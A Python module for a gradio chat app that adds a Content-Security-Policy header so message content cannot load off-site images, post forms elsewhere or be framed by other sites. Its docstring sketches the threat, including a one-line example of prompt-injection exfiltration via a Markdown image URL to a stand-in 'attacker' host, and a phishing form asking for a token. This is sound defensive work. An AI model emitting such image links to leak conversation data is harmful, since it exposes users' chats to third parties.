"""The page's Content-Security-Policy: nothing in a message can call home, post a form elsewhere,
or be framed by a stranger's site.

A message's text can name a picture on any server: Markdown `![x](https://...)`, or an `<img>` or a
`<video poster>`. Drawn, the browser fetches it, and the server that answers learns the reader's
address and when they read. That turns a conversation link (its messages written by whoever
shared it) into a tracker of everyone who opens it, and a reply into the way out for a prompt
injection (`![](https://attacker/?q=<what the chat said>)`). The page itself never makes an
element of a message's pictures or raw HTML (`page/typed_message.py`, `page/reply_markdown.py`);
this policy is the second wall, for whatever a gradio upgrade or a Markdown shape might let through:

- `img-src`/`media-src`: images and media only from the app itself (and the `data:` and `blob:`
  URLs gradio draws its icons and downloads with); a refused picture shows as its alt text.
- `form-action 'self'`: no form on the page posts anywhere else (a drawn "session expired, paste
  your token" form would post to its writer).
- `frame-ancestors`: only the sites given (`--frame-ancestors`; by default the app itself and
  Hugging Face, whose Space page shows the app in an iframe) may frame `/`, `/shared`, `/login`.

Nothing else is restricted: the page's fonts and scripts load as gradio serves them.
"""

from __future__ import annotations

MEDIA_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:; form-action 'self'"
HEADER = b"content-security-policy"


def content_security_policy(frame_ancestors: str) -> str:
    """The policy, with `frame_ancestors` (CSP sources, space-separated) allowed to frame the app."""
    return f"{MEDIA_POLICY}; frame-ancestors {' '.join(frame_ancestors.split())}"


class SameOriginMedia:
    """ASGI middleware: add the policy to every HTTP response that sets no policy of its own."""

    def __init__(self, app, frame_ancestors: str = "'self'") -> None:
        self.app = app
        self.policy = content_security_policy(frame_ancestors).encode()

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            return await self.app(scope, receive, send)

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                if all(name.lower() != HEADER for name, _ in headers):
                    headers.append((HEADER, self.policy))
                message = {**message, "headers": headers}
            await send(message)

        return await self.app(scope, receive, send_with_policy)
